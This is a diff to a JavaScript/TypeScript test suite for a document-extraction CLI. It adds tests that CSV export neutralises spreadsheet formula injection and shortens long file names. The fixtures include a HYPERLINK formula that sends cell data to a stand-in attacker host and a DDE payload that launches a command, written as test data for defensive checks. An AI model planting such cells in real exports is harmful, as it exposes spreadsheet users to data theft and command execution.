@@ -93,7 +93,8 @@ describe('docextract export', () => {
   });
 
   it('round-trips commas, quotes, newlines and unicode through a strict RFC 4180 parser, with a BOM on request', async () => {
-    const awkward = ['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nend', 'Zoë 東京 🚀', ' padded ', '=SUM(A1)'];
+    // (A value a spreadsheet would run is not written as it is: see the formula test below.)
+    const awkward = ['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nend', 'Zoë 東京 🚀', ' padded ', 'SUM(A1)=2'];
     const ws = resultsFolder(Object.fromEntries(awkward.map((value, i) => [`r${i}.json`, resultJson({ path: `in/${value}.pdf`, data: { note: value, [`k,"${i}"`]: value } })])));
     const run = await runCli(['export', ws.results, '--out', ws.tables, '--bom'], { env: isolatedEnv() });
     expect(run.code).toBe(0);
@@ -104,6 +105,42 @@ describe('docextract export', () => {
     for (const row of rows) expect(row.source_file).toBe(`in/${row.note}.pdf`);
     awkward.forEach((value, i) => expect(rows.find((row) => row.note === value)?.[`k,"${i}"`]).toBe(value));
     expect(run.stderr).toMatch(/exported 8 documents/);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula: values, keys and file names get a leading quote; numbers, negative ones too, stay as they are', async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '\t=1+1', '\r=1+1', '-1+cmd', '\uFF1D1+1', '\uFF0B1', '\uFF0D1+1', '\uFF20SUM(1)', "'=quoted already"];
+    const data = {
+      ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
+      amount: -12.5,
+      amount_text: '-12.5',
+      plus_text: '+3',
+      "=cmd|' /C calc'!A0": 'a formula as a column name',
+      line_items: [{ description: '@SUM(A1:A9)', amount: -2 }],
+    };
+    const ws = resultsFolder({ '=evil.pdf.json': resultJson({ path: '=evil.pdf', data }) });
+    const run = await runCli(['export', ws.results, '--out', ws.tables], { env: isolatedEnv() });
+    expect(run.code, run.stderr).toBe(0);
+    const [row] = readCsv(join(ws.tables, 'invoice.csv'));
+    formulas.forEach((value, i) => expect(row?.[`f${i}`], JSON.stringify(value)).toBe(`'${value}`));
+    expect(row).toMatchObject({ source_file: "'=evil.pdf", result_file: "'=evil.pdf.json", amount: '-12.5', amount_text: '-12.5', plus_text: '+3' });
+    expect(row?.["'=cmd|' /C calc'!A0"]).toBe('a formula as a column name');
+    expect(readCsv(join(ws.tables, 'invoice.line_items.csv'))).toEqual([{ source_file: "'=evil.pdf", row: '1', amount: '-2', description: "'@SUM(A1:A9)" }]);
+    // Whatever the cell, header included: it starts like no formula, or it is a plain number.
+    for (const table of readdirSync(ws.tables)) {
+      const cells = (parse(readFileSync(join(ws.tables, table)), { record_delimiter: '\r\n' }) as string[][]).flat();
+      for (const cell of cells) expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), `${table}: ${JSON.stringify(cell)}`).toBe(false);
+    }
+  });
+
+  it('exports results of 300-character models to two files of stable, shortened names', async () => {
+    const long = (end: string): string => `${'m'.repeat(299)}${end}`;
+    const ws = resultsFolder({ 'a.json': resultJson({ path: 'in/a.pdf', model: long('a') }), 'b.json': resultJson({ path: 'in/b.pdf', model: long('b') }) });
+    const run = await runCli(['export', ws.results, '--out', ws.tables, '--json'], { env: isolatedEnv() });
+    expect(run.code, run.stderr).toBe(0);
+    const files = readdirSync(ws.tables).sort();
+    expect(files).toHaveLength(2);
+    for (const file of files) expect(file).toMatch(/^m{32}~[0-9a-f]{16}\.csv$/);
+    expect(files.map((file) => readCsv(join(ws.tables, file))[0]?.model).sort()).toEqual([long('a'), long('b')]);
   });
 
   it('names a broken file, exports the rest, and exits 1', async () => {
